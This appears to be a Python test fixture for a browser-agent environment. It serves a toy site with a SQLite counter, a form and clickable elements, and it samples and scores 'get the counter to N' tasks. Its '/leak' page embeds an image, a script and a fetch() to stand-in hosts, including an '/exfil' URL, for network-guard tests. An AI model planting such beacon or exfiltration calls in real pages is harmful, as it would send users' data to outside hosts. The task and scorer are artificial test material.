"""A three-page site for the browser-layer tests: a link, a form, a drop-down, a counter.

The task is "get the counter to N and say so"; the counter lives in SQLite, so the
tests also see the database reset between episodes. ``/leak`` tries to reach the
network in three ways (an image, a script, a fetch) for the guard tests.
"""

from __future__ import annotations

import html
import sqlite3
from pathlib import Path
from typing import Any

import numpy as np
from werkzeug.wrappers import Request, Response

from turngym.envs.web.env import SiteEnv
from turngym.envs.web.tasks import Step, Task

PAGE = """<!doctype html><html><head><title>{title}</title></head><body>
<nav><a href="/">Home</a> <a href="/form">Form</a></nav><h1>{title}</h1>{body}</body></html>"""


class ToySite:
    name = "toy-v1"
    templates = ("count", "say")

    def build_database(self, path: Path) -> None:
        with sqlite3.connect(path) as conn:
            conn.execute("CREATE TABLE counter (n INTEGER)")
            conn.execute("INSERT INTO counter VALUES (0)")

    def app(self, db_path: Path) -> Any:
        def app(environ: dict, start_response: Any) -> Any:
            request = Request(environ)
            with sqlite3.connect(db_path) as conn:
                if request.path == "/add" and request.method == "POST":
                    conn.execute("UPDATE counter SET n = n + 1")
                    return Response(status=303, headers={"Location": "/"})(environ, start_response)
                n = conn.execute("SELECT n FROM counter").fetchone()[0]
            if request.path == "/":
                body = (
                    f"<p>Counter: {n}</p><form method=post action=/add>"
                    "<button>Add one</button></form><button hidden>Hidden</button>"
                )
                title = "Home"
            elif request.path == "/form":
                body = (
                    "<label for=q>Query</label><input id=q name=q>"
                    "<label for=c>Colour</label><select id=c><option>red</option>"
                    "<option>green</option></select>"
                    "<p id=out></p><button onclick=\"document.getElementById('out')"
                    ".textContent = 'You typed ' + document.getElementById('q').value"
                    " + ' in ' + document.getElementById('c').value\">Show</button>"
                    "<button onclick=\"alert('hi')\">Alert</button>"
                    '<a href="#bottom">Jump</a> <a href="http://example.com/">Away</a>'
                    '<a href="/" target="_blank">New tab</a><p id=bottom>bottom</p>'
                    '<div style="height: 3000px"></div>'
                    "<button onclick=\"this.textContent = 'Clicked far below'\">Far below</button>"
                )
                title = "Form"
            elif request.path == "/clicker":
                body = (
                    "<p id=n>0</p><button onclick=\"const p = document.getElementById('n');"
                    ' p.textContent = +p.textContent + 1">Click me</button>'
                )
                title = "Clicker"
            elif request.path == "/marks":  # set-of-marks: what is boxed, what is not
                body = (
                    "<p>A paragraph of plain text.</p><ul><li>first item</li>"
                    "<li>second item</li></ul><section aria-label=Region>In a region</section>"
                    "<button>Press</button> <input placeholder=Name> <select><option>one"
                    "</option></select> <textarea>notes</textarea> <div tabindex=0 "
                    "aria-label=Handler onclick=\"this.textContent = 'done'\">Handler</div>"
                )
                title = "Marks"
            elif request.path == "/leak":
                body = (
                    '<img src="http://192.0.2.1/pixel.png" alt="pixel">'
                    '<script src="https://example.com/x.js"></script>'
                    "<script>fetch('http://198.51.100.7/exfil?d=1').catch(() => {})</script>"
                    "<p>leak page</p>"
                )
                title = "Leak"
            else:
                return Response("not found", status=404)(environ, start_response)
            page = PAGE.format(title=html.escape(title), body=body)
            return Response(page, mimetype="text/html")(environ, start_response)

        return app

    def sample_task(
        self, rng: np.random.Generator, conn: sqlite3.Connection, template: str | None = None
    ) -> Task:
        template = template or self.templates[int(rng.integers(len(self.templates)))]
        target = int(rng.integers(1, 4))
        if template == "count":
            plan = (*[Step.click("button", "Add one")] * target, Step.answer(str(target)))
            return Task(
                "count",
                f"Press 'Add one' until the counter shows {target}, then answer {target}.",
                {"target": target},
                plan,
            )
        return Task("say", f"Answer {target}.", {"target": target}, (Step.answer(str(target)),))

    def finished(self, task: Task, conn: sqlite3.Connection) -> bool:
        return False

    def score(self, task: Task, conn: sqlite3.Connection, answer: str | None) -> float:
        n = conn.execute("SELECT n FROM counter").fetchone()[0]
        ok = str(answer).strip() == str(task.goal["target"])
        if task.template == "count":
            ok = ok and n == task.goal["target"]
        return float(ok)


class ToyEnv(SiteEnv):
    site = ToySite()
